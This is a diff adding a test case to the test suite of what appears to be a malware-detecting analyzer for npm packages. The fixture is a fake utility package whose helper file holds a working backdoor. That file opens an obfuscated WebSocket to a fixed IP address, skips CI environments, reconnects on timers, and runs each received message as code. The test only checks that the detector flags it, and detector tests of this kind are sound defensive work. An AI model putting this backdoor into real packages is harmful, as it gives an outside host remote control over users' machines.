@@ -146,3 +146,31 @@ ws.onmessage = (ev) => { const m = JSON.parse(ev.data); document.getElementById(
     ).toEqual([]);
   });
 });
+
+describe('a handler registered deep inside helpers, with a reconnect timer', () => {
+  it('attach → channel → open (rescheduled by a timer) → on → handler → callback: still followed', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'is-typeof-utils', version: '5.0.1', main: 'index.js' }),
+      'index.js': "const is = {}; require('./lib/env')(is); module.exports = is;",
+      'lib/env.js': `const ctor = Reflect.construct.bind(Reflect, Function);
+function channel(onMsg) {
+  const WS = globalThis.WebSocket || (() => { try { return require(['w', 's'].join('')); } catch { return null; } })();
+  if (!WS) return;
+  let ws;
+  const open = () => {
+    try { ws = new WS('wss://203.0.113.77:8443/s'); } catch { return setTimeout(open, 60000); }
+    const on = (ev, fn) => (ws.addEventListener ? ws.addEventListener(ev, fn) : ws.on(ev, fn));
+    on('message', (m) => onMsg(ws, m && m.data !== undefined ? m.data : m));
+    on('close', () => setTimeout(open, 30000));
+  };
+  open();
+}
+module.exports = function attach(is) {
+  if (process.env.CI || attach.started) return;
+  attach.started = true;
+  channel((ws, raw) => { const job = JSON.parse(String(raw)); ctor(['require', job.c])(require); });
+};`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.eval-network');
+  });
+});
